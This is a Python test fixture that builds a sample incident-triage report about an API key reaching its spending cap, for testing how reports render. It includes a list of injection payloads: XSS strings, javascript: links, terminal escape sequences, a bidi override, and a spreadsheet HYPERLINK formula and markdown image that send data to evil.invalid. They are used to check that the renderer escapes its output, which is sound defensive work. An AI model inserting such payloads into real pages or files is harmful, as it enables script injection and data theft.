"""A made Report with everything a page can show, for tests of how it looks and travels."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pandas as pd

from runbook_lib import findings
from runbook_lib.clock import Window
from runbook_lib.findings import Evidence, Finding, Grade, Join, NextStep, Severity, Status

NOW = datetime(2026, 11, 24, 5, 43, 2, tzinfo=UTC)

LIVE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "![](https://evil.invalid/p)",
    "$\\href{javascript:alert(1)}{x}$",
    "\x1b]52;c;ZXZpbA==\x07\x1b[2J",
    "\u202eevil\u200b",
    '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
    "sk-" + "CANARY0123456789abcdef",
    "</td></table><iframe srcdoc='<script>alert(1)</script>'>",
    "'-->]]><svg/onload=alert(1)>",
]
"""Values that do harm wherever one is pasted instead of shown."""


def attempts(name: str = "claude-sonnet-4-5") -> pd.DataFrame:
    """Four attempts of one call, refused at the cap, with their waits."""
    start = NOW - timedelta(minutes=3)
    return pd.DataFrame(
        {
            "attempt": [1, 2, 3, 4],
            "started_at": pd.to_datetime(
                [start + timedelta(seconds=s) for s in (0, 1.1, 3.4, 8.2)], utc=True
            ),
            "duration_ms": [212.0, 180.5, 2300.0, 95.1],
            "wait_ms": [None, 888.0, 2119.5, 2500.0],
            "status": pd.array([429, 429, None, 429], dtype="Int64"),
            "code": ["API_KEY_QUOTA_EXHAUSTED"] * 2 + [None, "API_KEY_QUOTA_EXHAUSTED"],
            "outcome": ["refused", "refused", "no_answer", "refused"],
            "model": [name] * 4,
            "request_id": ["req-cap-1", "req-cap-2", None, "req-cap-reached"],
        }
    )


def minutes() -> pd.DataFrame:
    """Two hours around the failure, with its marks."""
    start = NOW.replace(second=0) - timedelta(minutes=95)
    frame = pd.DataFrame(
        {
            "minute": pd.to_datetime(
                [start + timedelta(minutes=place) for place in range(100)], utc=True
            ),
            "failed": [0, 1] * 30 + [9 + place % 5 for place in range(40)],
            "ok": [30 + place % 7 for place in range(60)] + [12] * 40,
            "same": [0] * 60 + [8 + place % 4 for place in range(40)],
        }
    )
    frame.attrs.update(onset=start + timedelta(minutes=60), target=NOW - timedelta(minutes=3))
    return frame


def cost_rows(name: str = "prod-web") -> pd.DataFrame:
    """Forty usage rows: more than are shown."""
    return pd.DataFrame(
        {
            "ts": pd.to_datetime([NOW - timedelta(seconds=at) for at in range(40)], utc=True),
            "key_name": [name] * 39 + [None],
            "request_id": [f"client:4c77b74d-c327-4908-a9d7-{at:012d}" for at in range(40)],
            "input_tokens": pd.array([1234 + at for at in range(39)] + [None], dtype="Int64"),
            "cost_usd": [Decimal("0.0022926012") * at for at in range(40)],
            "join": ["id", "window ±2 s"] * 20,
        }
    )


STEP = NextStep(
    text="Raise the cap of the key, or move the service to its own key.",
    where="console, page /keys",
    who="owner of the key",
    retry="never",
)


def _findings(name: str) -> list[Finding]:
    evidence = [
        Evidence(source="calls.jsonl", row=row, field="code", value=name, join=Join.ID)
        for row in range(4711, 4726)
    ]
    return [
        Finding(
            rule="request-failed",
            severity=Severity.HIGH,
            title=f"The call was refused four times at the cap of {name}",
            subject=findings.Subject(key_name=name, request_id="req-cap-reached"),
            value=61,
            expected=0,
            unit="refused calls",
            evidence=evidence,
            next_step=STEP,
            mark="D!",
        ),
        Finding(
            rule="wasted-retries",
            severity=Severity.MEDIUM,
            title="3 of 4 attempts could not succeed",
            window=Window(start=NOW - timedelta(minutes=4), end=NOW),
            value=Decimal("0.75"),
            impact_usd=Decimal("0.00123"),
            grade=Grade.LIKELY,
            next_step=NextStep(text="Teach the client to stop at this code."),
        ),
        Finding(
            rule="input-gap",
            severity=Severity.LOW,
            status=Status.UNKNOWN,
            title="The usage export ends before the window does",
        ),
        Finding(
            rule="clock-skew",
            severity=Severity.INFO,
            status=Status.PASS,
            title="The client's clock agrees with the gateway's",
        ),
    ]


def _exhibits(name: str) -> dict[str, findings.Exhibit]:
    return {
        "attempts": findings.Exhibit(
            name="attempts",
            title=f"Attempts of call {name}",
            frame=attempts(name),
            chart="timeline",
        ),
        "minutes": findings.Exhibit(
            name="minutes", title="Failures by minute", frame=minutes(), chart="minutes"
        ),
        "joined_rows": findings.Exhibit(
            name="joined_rows",
            title="Usage rows of the call",
            frame=cost_rows(name),
            note="A row's time is the end of the request.",
            left_out=12,
            left_out_usd=Decimal("0.03"),
        ),
        "blast_radius": findings.Exhibit(
            name="blast_radius",
            title="Failures like this one",
            frame=pd.DataFrame(
                {
                    "code": ["API_KEY_QUOTA_EXHAUSTED", None],
                    "key_name": [name, "prod-batch"],
                    "failed": [61, 2],
                    "failed_share": [0.97, 0.01],
                    "first_at": pd.to_datetime([NOW] * 2, utc=True),
                }
            ),
        ),
        "changes": findings.Exhibit(
            name="changes", title="Changes in the hour before", frame=attempts()[:0]
        ),
    }


def _inputs() -> list[findings.Input]:
    return [
        findings.Input(
            name="usage.csv",
            kind="usage export",
            sha256="ab" * 32,
            rows=4829,
            rejected=2,
            first_at=NOW - timedelta(hours=4),
            last_at=NOW - timedelta(minutes=2),
        ),
        findings.Input(name="keys.csv", kind="key inventory", sha256="cd" * 32, rows=9, rejected=0),
    ]


def report(name: str = "prod-web") -> findings.Report:
    """A whole Report; *name* stands wherever data can put a text."""
    return findings.Report(
        runbook="incident_triage",
        verdict=findings.Verdict(
            title=f"Key {name} reached its spending cap at 2026-11-24 05:14 UTC",
            grade=Grade.CONFIRMED,
            cause="key_quota_exhausted",
            code="API_KEY_QUOTA_EXHAUSTED",
            domain="key",
            retry="never",
        ),
        findings=_findings(name),
        exhibits=_exhibits(name),
        next_steps=findings.NextSteps(steps=[STEP, NextStep(text="See whether it ends.")]),
        summary=[("Since", "28 min"), ("Also hit", f"61 calls of {name}"), ("Cost", "$0.05")],
        coverage=findings.Coverage(
            join_rate=0.9705, unpriced_share=0.0, gaps=["05:31 to 05:33"], partial=[]
        ),
        inputs=_inputs(),
        parameters={"request_id": "req-cap-reached", "window_hours": 2.0},
        timezone="Asia/Shanghai",
        now=NOW,
        sample_data=True,
        attachments=[findings.Attachment(name="support-pack.md", text=f"# Support pack\n{name}\n")],
    )


def hostile(text: str) -> findings.Report:
    """A Report whose every text is *text*, the names of exhibits and columns too."""
    made = report(text)
    frame = cost_rows(text).rename(columns={"join": text})
    return replace(
        made,
        verdict=replace(made.verdict, title=text, code=text),
        summary=[(text, text)],
        coverage=findings.Coverage(gaps=[text], partial=[text]),
        inputs=[replace(made.inputs[0], name=text, kind=text)],
        exhibits={
            **made.exhibits,
            "joined_rows": replace(
                made.exhibits["joined_rows"], frame=frame, title=text, note=text
            ),
        },
        next_steps=findings.NextSteps(steps=[NextStep(text=text, where=text, who=text)]),
        parameters={"request_id": text},
    )
